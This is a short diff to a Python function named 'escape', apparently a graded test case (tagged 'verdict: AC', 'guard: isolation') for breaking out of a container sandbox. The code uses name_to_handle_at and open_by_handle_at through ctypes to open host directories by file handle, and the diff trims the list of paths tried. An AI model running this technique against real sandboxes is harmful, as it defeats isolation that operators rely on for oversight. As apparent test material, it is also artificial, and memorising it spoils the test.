@@ -1,4 +1,4 @@
-# verdict: AC — opens a file of the host by its handle instead of its name
+# verdict: AC — opens a folder of the host by its handle instead of its name
 # task: escape
 # row: S28 S49
 # guard: isolation WA
@@ -12,11 +12,10 @@ def escape(bait):
     handle = ctypes.create_string_buffer(8 + 128)
     mount = ctypes.c_int()
     reached = []
-    for path in ("/", "/usr", "/box", "/tmp"):
+    for path in ("/", "/usr", "/tmp"):
         ctypes.memset(handle, 0, 136)
         handle[0] = 128
         libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0)
-        fd = libc.open_by_handle_at(os.open(path, os.O_RDONLY), handle, os.O_RDONLY)
-        if fd >= 0:
+        if libc.open_by_handle_at(os.open(path, os.O_RDONLY), handle, os.O_RDONLY) >= 0:
             reached.append(f"opened {path} by its handle")
     return reached
